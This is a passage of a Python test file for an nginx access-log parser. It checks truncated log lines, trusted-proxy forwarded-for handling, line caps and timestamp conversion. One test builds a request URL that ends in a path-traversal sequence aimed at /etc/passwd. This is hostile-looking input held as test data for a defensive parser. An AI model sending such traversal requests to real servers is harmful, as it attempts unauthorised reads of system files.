    assert _one("nginx-json", CutLine(stranger[:3000]), proxies).client == "203.0.113.7"


def test_a_combined_line_cut_in_its_request_yields_the_request() -> None:
    """A combined line cut inside a long request line gives the request: method and the
    target up to the cut, status 0 (unknown), no user (no credit for an authenticated
    request); cut in the user agent it parses as usual. Not cut: unparsed."""
    long_url = "/static/" + "A" * 5000 + "/../../etc/passwd"
    line = LINE.replace("/v1/chat/completions", long_url)
    cut = line[:3000]
    event = _one("nginx", CutLine(cut))
    assert (event.client, event.method, event.status, event.user) == (
        "203.0.113.7",
        "POST",
        0,
        None,
    )
    assert event.ts == EPOCH_1953
    assert long_url.startswith(event.path)
    assert len(event.path) > 2900
    assert _parse("nginx", cut) is None
    in_agent = LINE.replace("curl/8.5.0", "curl/" + "x" * 5000)[:3000]
    assert (_one("nginx", CutLine(in_agent)).status, _one("nginx", CutLine(in_agent)).user) == (
        401,
        "alice",
    )
    odd = '203.0.113.7 - - [20/Jan/2015:19:53:28 +0100] "\\x16\\x03\\x01'
    assert (_one("nginx", CutLine(odd)).method, _one("nginx", CutLine(odd)).path) == (
        "",
        "\\x16\\x03\\x01",
    )


def test_a_cut_combined_line_from_a_trusted_proxy_needs_its_forwarded_field() -> None:
    """Behind trusted proxies, a combined line cut before its forwarded-for field from a
    trusted proxy is left unparsed (the proxy is not its client); from another peer, and
    with the field whole, it is read."""
    proxies = ("10.0.0.0/8",)
    via = LINE.replace("203.0.113.7", "10.0.0.2").replace("curl/8.5.0", "c" * 5000)
    with_xff = via + ' "198.51.100.9"'
    assert _parse("nginx", CutLine(with_xff[:3000]), proxies) is None
    assert (
        _parse("nginx", CutLine(with_xff.replace("/v1/chat", "/" + "v" * 5000)[:3000]), proxies)
        is None
    )
    assert _one("nginx", CutLine(LINE.replace("curl", "c" * 5000)[:3000]), proxies).client == (
        "203.0.113.7"
    )
    short = LINE.replace("203.0.113.7", "10.0.0.2") + ' "198.51.100.9"'
    assert _one("nginx", CutLine(short + ' "' + "z" * 5000), proxies).client == "198.51.100.9"


def test_access_log_formats_have_a_line_cap_that_holds_a_body() -> None:
    """nginx and nginx-json lines are cut at 1 MiB (a body of max_body_chars fits), the
    short-lined formats at 64 KiB, a format not told yet at the largest (a container
    log's); a cut nginx-json line still votes for its format when sniffing."""
    assert line_cap("nginx-json") == line_cap("nginx") == 1 << 20
    assert line_cap("sshd") == line_cap("nginx-error") == 65536
    assert line_cap("auto") == line_cap(None) == line_cap("container") > 1 << 20
    long = _json_line(request_body="x" * 100_000)
    assert sniff([CutLine(long[:65536])] * 3) == "nginx-json"


def test_parse_many_matches_parse_line_by_line() -> None:
    """parse_many gives parse's events in order and skips lines parse rejects."""
    lines = [
        '192.0.2.1 - - [24/Nov/2025:16:00:00 +0000] "GET /a HTTP/1.1" 200 5 "-" "x"',
        "not a log line",
        '2001:db8::1 - bob [24/Nov/2025:16:00:01 +0100] "POST /b?q=1 HTTP/2.0" 401 - "r" "y"',
        '192.0.2.2 - - [24/Nov/2025:16:00:02 +0000] "\\x16\\x03" 400 0 "-" "-"',
        '192.0.2.3 - - [2²/Nov/2025:16:00:02 +0000] "GET / HTTP/1.1" 200 0 "-" "-"',
    ]
    parser = _parser("nginx")
    want = [e for line in lines if (e := parser.parse(line)) is not None]
    assert len(want) == 3
    assert list(_parser("nginx").parse_many(lines)) == want


@pytest.mark.parametrize(
    ("text", "epoch"),
    [
        ("24/Nov/2025:16:00:00 +0000", 1_764_000_000.0),
        ("24/Nov/2025:16:00:01 -0430", 1_764_000_001.0 + 4.5 * 3600),
        ("01/Jan/2015:19:53:28 +0100", 1_420_138_408.0),
        ("0²/Jan/2015:19:53:28 +0100", None),
        ("01/Jan/2015:1²:53:28 +0100", None),
        ("01/Jan/2015:19:53:28 +01²0", None),
        ("01/Foo/2015:19:53:28 +0100", None),
    ],
)
def test_time_local_per_second_and_bad_digits(text: str, epoch: float | None) -> None:
    """$time_local converts exactly (day cache + clock); non-ASCII digits give None, no crash."""
    convert = NginxTimeLocal()
    assert convert(text) == epoch
    assert convert(text) == epoch  # served from the cache the second time
